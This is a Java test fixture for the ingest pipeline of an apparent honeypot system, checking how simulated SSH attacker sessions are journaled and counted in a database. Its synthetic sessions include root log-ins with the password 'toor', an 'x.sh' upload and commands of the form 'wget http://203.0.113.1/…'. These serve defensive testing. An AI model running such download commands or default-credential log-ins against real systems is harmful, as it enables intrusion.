package decnet.workers.herd;

import static org.assertj.core.api.Assertions.assertThat;

import decnet.core.Config;
import decnet.core.Counters;
import decnet.core.DeckyName;
import decnet.core.Event;
import decnet.core.Peer;
import decnet.core.Places;
import decnet.db.Database;
import decnet.db.fixture.TestDatabase;
import decnet.journal.JournalConfig;
import decnet.journal.JournalEntry;
import decnet.journal.JournalPosition;
import decnet.journal.JournalReader;
import decnet.journal.JournalWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;

/** A journal, a database and the ingest between them, for the tests of all that it does. */
abstract class IngestCase {
    static final Peer MALLORY = Peer.of("203.0.113.9", 40000);
    static final Peer DECKY = Peer.of("127.1.2.3", 10022);

    @TempDir
    private Path folder = Path.of("replaced");

    final TestDatabase test = TestDatabase.create();
    final Database database = test.database();
    final Counters counters = new Counters();
    Places places = new Places(folder, folder);
    Path journal = folder;

    @BeforeEach
    void prepare() {
        places = new Places(folder.resolve("state"), folder.resolve("run"));
        journal = places.journal("collect");
    }

    @AfterEach
    void close() {
        test.close();
    }

    static Event event(int number, String type, String... fields) {
        Map<String, String> map = new LinkedHashMap<>();
        map.put("n", Integer.toString(number));
        for (int i = 0; i < fields.length; i += 2) {
            map.put(fields[i], fields[i + 1]);
        }
        return Event.of(Instant.now(), new DeckyName("web-01"), "ssh", type, map)
                .withConnection(String.format("%016x", number / 10), MALLORY, DECKY)
                .withRecording(Instant.now(), "here");
    }

    /** Sessions of ten events: connect, two log-ins, five commands, one upload, disconnect. */
    static List<Event> attack(int events) {
        List<Event> all = new ArrayList<>();
        for (int i = 0; i < events; i++) {
            all.add(
                    switch (i % 10) {
                        case 0 -> event(i, "connect");
                        case 1 ->
                            event(
                                    i,
                                    "login_attempt",
                                    "principal",
                                    "root",
                                    "secret",
                                    "a\\x00" + i,
                                    "outcome",
                                    "rejected");
                        case 2 ->
                            event(i, "login_attempt", "principal", "root", "secret", "toor", "outcome", "accepted");
                        case 8 ->
                            event(
                                    i,
                                    "file_upload",
                                    "name",
                                    "x.sh",
                                    "size",
                                    "12",
                                    "sha256",
                                    "ab".repeat(32),
                                    "via",
                                    "scp");
                        case 9 -> event(i, "disconnect", "duration_ms", "1200", "bytes_in", "7", "reason", "client");
                        default -> event(i, "command", "command", "wget http://203.0.113.1/" + i, "cwd", "/root");
                    });
        }
        return all;
    }

    void record(List<Event> events) {
        try (JournalWriter writer = JournalWriter.open(
                journal, JournalConfig.from(Config.of(Map.of())), InstantSource.system(), counters)) {
            for (Event event : events) {
                writer.append(event);
            }
            writer.sync();
        }
    }

    void recordRaw(String text) throws Exception {
        try (Stream<Path> files = Files.list(journal)) {
            Path last = files.filter(file -> file.getFileName().toString().matches(".*[0-9].*"))
                    .filter(Files::isRegularFile)
                    .max(Path::compareTo)
                    .orElseThrow();
            Files.writeString(last, text, StandardOpenOption.APPEND);
        }
    }

    Ingest ingest() {
        return ingest("collect", done -> {});
    }

    Ingest ingest(String name, Consumer<Ingest.Committed> committed) {
        return new Ingest(
                database,
                name,
                IngestConfig.from(Config.of(Map.of())),
                new Days(database, InstantSource.system()),
                InstantSource.system(),
                counters,
                committed);
    }

    /** Reads on from where the database stands, in batches, to the end. */
    void ingestAll(Ingest ingest, int batch) {
        JournalPosition position = ingest.position();
        try (JournalReader reader = JournalReader.open(journal, position, counters)) {
            for (List<JournalEntry> entries = reader.read(batch); !entries.isEmpty(); entries = reader.read(batch)) {
                ingest.write(position, entries);
                position = entries.getLast().next();
            }
        }
    }

    long count(String table) {
        return test.number("select count(*) from " + table);
    }

    void assertWhole(int events) {
        assertThat(count("event")).isEqualTo(events);
        assertThat(test.number("select count(distinct fields ->> 'n') from event"))
                .isEqualTo(events);
        assertThat(test.number("select max(seq) from event")).isEqualTo(events);
        assertThat(count("session")).isEqualTo(events / 10);
        assertThat(count("command")).isEqualTo(events / 2);
        assertThat(count("credential")).isEqualTo(events / 5);
        assertThat(count("upload")).isEqualTo(events / 10);
        assertThat(test.number("select sum(event_count) from session")).isEqualTo(events);
        assertThat(test.number("select sum(command_count) from session")).isEqualTo(events / 2);
    }

    Event foreign(Instant at, int port) {
        return new Event(
                java.util.Optional.empty(),
                at,
                java.util.Optional.of(at),
                java.util.Optional.of("here"),
                new DeckyName("web-01"),
                "telnet",
                "login_attempt",
                java.util.Optional.empty(),
                java.util.Optional.of(Peer.of("203.0.113.9", port)),
                java.util.Optional.of(DECKY),
                Map.of("principal", "root", "secret", "x"));
    }

    static Event ofDecoys(String session, String type) {
        return Event.of(Instant.now(), new DeckyName("web-01"), "ssh", type, Map.of())
                .withConnection(session, MALLORY, DECKY)
                .withRecording(Instant.now(), "here");
    }
}
